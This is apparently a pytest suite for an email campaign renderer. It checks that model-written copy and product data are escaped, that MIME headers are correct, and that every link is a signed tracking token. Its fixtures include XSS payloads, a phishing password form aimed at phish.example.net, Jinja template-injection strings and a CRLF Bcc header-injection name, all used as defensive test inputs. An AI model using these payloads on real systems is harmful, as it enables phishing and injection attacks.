"""The renderer: hostile copy renders harmless, messages are well-formed MIME, links are the campaign's own."""

from __future__ import annotations

import email
import html
import json
import re
from email import policy

import pytest

from storage.errors import UserError
from tests import campaign_fixtures
from tools import run_tool
from tools.campaigns.links import campaign_urls, verify
from tools.campaigns.render import CampaignRenderer, Recipient
from tools.campaigns.sanitise import safe_template

HOSTILE = {
    "variant": "A",
    "subject": "Hello <script>alert(1)</script> see http://phish.example.net/login",
    "preheader": "Preheader <img src=x onerror=alert(1)>",
    "blocks": [
        'Dear customer <b onclick="steal()">click</b> <script>document.location="http://phish.example.net"</script>',
        '<form action="http://phish.example.net/pw"><input name="password">Enter password</form>',
        '<a href="http://phish.example.net/login">Verify your account</a> or visit www.phish-shop.com/x today',
        "{{ ''.__class__.__mro__ }} {% for x in range(3) %}loop{% endfor %} <iframe src='http://x.example.org'>",
    ],
    "cta_text": '<a href="javascript:alert(1)">Buy</a>',
}
FRIENDLY = {
    "variant": "B",
    "subject": "{{ first_name }}, your {{ category }} edit: déjà vu, 20 % off 🎉",
    "preheader": "Picked for {{ first_name }}",
    "blocks": ["We think you'll love the {{ recommended }}.", "See you soon, {{ first_name }}!"],
    "cta_text": "Shop {{ brand }}",
}

shop_file, shop = campaign_fixtures.shop_file, campaign_fixtures.shop  # a small demo shop, copied per test


def make_campaign(ctx, variants, *, approved=True, cta_url=None):
    """A campaign with one version over the first three demo products (drafting is tested elsewhere)."""
    skus = [r[0] for r in ctx.db.execute("SELECT sku FROM products ORDER BY sku LIMIT 3").fetchall()]
    campaign_id = ctx.db.scalar("INSERT INTO campaigns (name, skus) VALUES ('test', ?) RETURNING campaign_id", [skus])
    ctx.db.execute(
        "INSERT INTO campaign_versions (campaign_id, version, author, variants, cta_url, skus)"
        " VALUES (?, 1, 'test', ?, ?, ?)",
        [campaign_id, json.dumps(variants), cta_url, skus],
    )
    if approved:
        ctx.db.execute(
            "UPDATE campaigns SET status = 'approved', approved_version = 1, approved_by = 'test',"
            " approved_at = now() WHERE campaign_id = ?",
            [campaign_id],
        )
    return campaign_id, skus


def recipient(variant="A", first_name="Anna", sku=None, customer_id="C0000001"):
    return Recipient(customer_id, "anna@example.com", first_name, variant, sku, f"{customer_id}.1@promopilot.test")


def parse(raw: bytes) -> email.message.EmailMessage:
    return email.message_from_bytes(raw, policy=policy.default)


def test_hostile_model_copy_renders_harmless(shop):
    campaign_id, _ = make_campaign(shop, [HOSTILE])
    raw = CampaignRenderer.for_campaign(shop, campaign_id).render(recipient())
    message = parse(raw)
    page = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    for needle in ["<script", "onclick", "onerror", "<form", "<input", "<iframe", "javascript:", "phish", "<class"]:
        assert needle not in page.lower(), needle
        assert needle not in text.lower(), needle
        assert needle not in message["Subject"].lower(), needle
    assert "{" not in page.split("</style>")[1] and "loop" in page  # template code left as inert text
    links = re.findall(r'(?:href|src)="([^"]*)"', page)
    assert links and all(u.startswith(shop.settings.public_url + "/t/") for u in links), links


def test_every_link_is_a_signed_token_for_this_customer_and_campaign(shop):
    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    renderer = CampaignRenderer.for_campaign(shop, campaign_id)
    page = parse(renderer.render(recipient("B", sku=skus[1]))).get_body(("html",)).get_content()
    clicks = re.findall(r'href="[^"]*/t/c/([^"]+)"', page)
    targets = set()
    for token in clicks:
        link = verify(shop.db, shop.settings, token)
        assert (link.kind, link.campaign_id, link.customer_id) == ("click", campaign_id, "C0000001")
        targets.add(renderer.campaign_urls[link.url_index])
    assert len(targets) == 4  # call to action + three products
    assert all(t.startswith(shop.settings.shop_url) and "utm_campaign=promopilot-" in t for t in targets)
    assert campaign_urls(shop.db, shop.settings, campaign_id) == list(renderer.campaign_urls)
    opens = re.findall(r'src="[^"]*/t/o/([^"]+)\.gif"', page)
    assert [verify(shop.db, shop.settings, t).kind for t in opens] == ["open"]


def test_headers_are_complete_and_unsubscribe_is_one_click(shop):
    shop.settings.reply_to = "Support <help@promopilot.test>"
    campaign_id, _ = make_campaign(shop, [FRIENDLY])
    raw = CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B"))
    message = parse(raw)
    assert message["To"] == "anna@example.com"
    assert message["From"].addresses[0].addr_spec == "hello@promopilot.test"
    assert message["Reply-To"].addresses[0].addr_spec == "help@promopilot.test"
    assert message["Message-ID"] == "<C0000001.1@promopilot.test>"
    assert message["Date"].datetime is not None
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    unsubscribe = re.fullmatch(r"<(https?://[^>]+/t/u/([^>]+))>", message["List-Unsubscribe"])
    assert unsubscribe, message["List-Unsubscribe"]
    link = verify(shop.db, shop.settings, unsubscribe.group(2))
    assert (link.kind, link.campaign_id, link.customer_id) == ("unsubscribe", campaign_id, "C0000001")
    assert unsubscribe.group(1) in message.get_body(("html",)).get_content()
    assert message.get_content_type() == "multipart/alternative"
    assert not message.defects and all(not part.defects for part in message.walk())


def test_non_ascii_subject_is_encoded_and_parses_back(shop):
    campaign_id, _ = make_campaign(shop, [FRIENDLY])
    raw = CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B", first_name="Zoë"))
    head = raw.split(b"\r\n\r\n", 1)[0]
    assert head.isascii(), "headers must be 7-bit (RFC 2047 encoded words)"
    subject = parse(raw)["Subject"]
    assert subject.startswith("Zoë, your ") and subject.endswith("déjà vu, 20 % off 🎉")


def test_lines_fit_smtp_and_bodies_decode_as_utf8(shop):
    long_block = {**FRIENDLY, "blocks": ["Wool and linen, " * 200]}
    campaign_id, _ = make_campaign(shop, [long_block])
    raw = CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B", first_name="Łukasz"))
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998
    assert b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only
    message = parse(raw)
    assert "Hi Łukasz," in message.get_body(("plain",)).get_content()
    assert "Hi Łukasz," in html.unescape(message.get_body(("html",)).get_content())


def test_first_names_are_escaped_and_have_a_fallback(shop):
    campaign_id, _ = make_campaign(shop, [FRIENDLY])
    renderer = CampaignRenderer.for_campaign(shop, campaign_id)
    nasty = parse(renderer.render(recipient("B", first_name="<b>Bob</b>\r\nBcc: x@evil.test")))
    assert "<b>Bob" not in nasty.get_body(("html",)).get_content()
    assert "&lt;b&gt;Bob" in nasty.get_body(("html",)).get_content()
    assert nasty["Bcc"] is None
    anonymous = parse(renderer.render(recipient("B", first_name=None)))
    assert "Hi there," in anonymous.get_body(("plain",)).get_content()
    assert anonymous["Subject"].startswith("Your Accessories edit")  # no dangling "there, " in a subject
    shouting = parse(renderer.render(recipient("B", first_name="MARIA")))
    assert shouting["Subject"].startswith("Maria, ")


def test_each_recipient_sees_their_recommended_product(shop):
    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    renderer = CampaignRenderer.for_campaign(shop, campaign_id)
    names = dict(shop.db.execute("SELECT sku, name FROM products").fetchall())
    for sku in skus:
        text = parse(renderer.render(recipient("B", sku=sku))).get_body(("plain",)).get_content()
        assert f"Picked for you: {names[sku]}" in text
        assert f"love the {names[sku]}" in text


def test_product_names_are_data_not_markup_or_template_code(shop):
    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    shop.db.execute(
        "UPDATE products SET name = ? WHERE sku = ?",
        ["Wool <script>alert(1)</script>Coat {{ 7*7 }} see https://phish.example.net", skus[0]],
    )
    message = parse(CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B", sku=skus[0])))
    page, text = message.get_body(("html",)).get_content(), message.get_body(("plain",)).get_content()
    assert "Picked for you: Wool Coat {{ 7*7 }} see (" in text  # shown as written, never evaluated
    assert "<script" not in page and "phish" not in page + text


def test_an_unapproved_campaign_cannot_be_rendered_for_sending(shop):
    campaign_id, _ = make_campaign(shop, [FRIENDLY], approved=False)
    with pytest.raises(UserError, match="not approved"):
        CampaignRenderer.for_campaign(shop, campaign_id)
    assert campaign_urls(shop.db, shop.settings, campaign_id) == []


def test_a_preview_has_no_tracking(shop):
    campaign_id, _ = make_campaign(shop, [FRIENDLY], approved=False)
    renderer = CampaignRenderer.for_preview(shop, campaign_id)
    preview = renderer.preview(recipient("B"))
    assert "/t/" not in preview.html and "/t/" not in preview.text
    assert renderer.campaign_urls[0] in preview.html.replace("&amp;", "&")
    assert parse(renderer.render(recipient("B")))["List-Unsubscribe"] is None


def test_unknown_variant_is_a_clear_error(shop):
    campaign_id, _ = make_campaign(shop, [FRIENDLY])
    with pytest.raises(UserError, match="no variant 'Z'"):
        CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("Z"))


def test_a_version_of_a_campaign_that_does_not_exist_names_the_missing_campaign(shop):
    with pytest.raises(UserError, match="There is no campaign 42"):
        run_tool(shop, "campaign_approve", campaign_id=42, version=1)


def test_only_plain_merge_fields_survive_as_template_code():
    assert safe_template("Hi {{ first_name }}, {{ product }}") == "Hi {{ first_name }}, {{ product }}"
    assert safe_template("Hi {{name}}, meet the {{ product_name }}") == "Hi {{ first_name }}, meet the {{ product }}"
    assert safe_template("Only {{ 7*7 }} left{% if x %}!{% endif %}") == "Only  left!"
    assert "{" not in safe_template("{{ first_name.__class__ }}")
    assert "{" not in safe_template("{{ cycler.__init__.__globals__ }}")
    assert "{" not in safe_template("{% if x %}y{% endif %}")
    assert "{" not in safe_template("{{ unclosed")


def test_the_benchmarks_simple_approach_builds_the_same_message(shop):
    """bench.email compares the renderer with building each message from scratch: it must be the same message."""
    from bench.email import SeedBuilder, _rss

    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    renderer, seed = CampaignRenderer.for_campaign(shop, campaign_id), SeedBuilder(shop, campaign_id)
    who = recipient("B", sku=skus[1])
    ours, theirs = parse(renderer.render(who)), parse(seed.build(who))
    for header in ("From", "To", "Subject", "Message-ID", "List-Unsubscribe", "List-Unsubscribe-Post"):
        assert str(ours[header]).strip() == str(theirs[header]).strip(), header  # folding may differ
    assert "{" not in theirs["Subject"] and "Anna" in theirs["Subject"]  # merge fields filled, not left raw

    def hrefs(message):
        return sorted(re.findall(r'href="([^"]+)"', message.get_body(("html",)).get_content()))

    assert hrefs(ours) == hrefs(theirs)  # the same signed links: call to action, pick, more, unsubscribe
    text = theirs.get_body(("plain",)).get_content()
    assert "Hi Anna," in text and "{{" not in text
    assert _rss()["peak_rss_mb"] > 0


def test_a_product_without_brand_or_category_leaves_no_empty_slot(shop):
    """An orders log's catalogue has no brand: "Picked for you: JUMBO BAG (, £1.65)"."""
    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    shop.db.execute("UPDATE products SET brand = NULL, category = NULL WHERE sku = ?", [skus[0]])
    message = parse(CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B", sku=skus[0])))
    page, text = message.get_body(("html",)).get_content(), message.get_body(("plain",)).get_content()
    name = shop.db.scalar("SELECT name FROM products WHERE sku = ?", [skus[0]])
    assert re.search(rf"Picked for you: {re.escape(name)} \([€$£]", text) and "(, " not in text
    meta = re.search(r'<p class="product-meta"[^>]*>(.*?)</p>', page, re.S)[1]
    assert "&#183;" not in meta and meta.strip().startswith(("&#8364;", "£", "$"))


def test_product_meta_is_never_markup(shop):
    campaign_id, skus = make_campaign(shop, [FRIENDLY])
    shop.db.execute("UPDATE products SET brand = '<b>Brand</b>' WHERE sku = ?", [skus[0]])
    message = parse(CampaignRenderer.for_campaign(shop, campaign_id).render(recipient("B", sku=skus[0])))
    meta = re.search(r'<p class="product-meta"[^>]*>(.*?)</p>', message.get_body(("html",)).get_content(), re.S)[1]
    assert "Brand" in meta and "<b>" not in meta
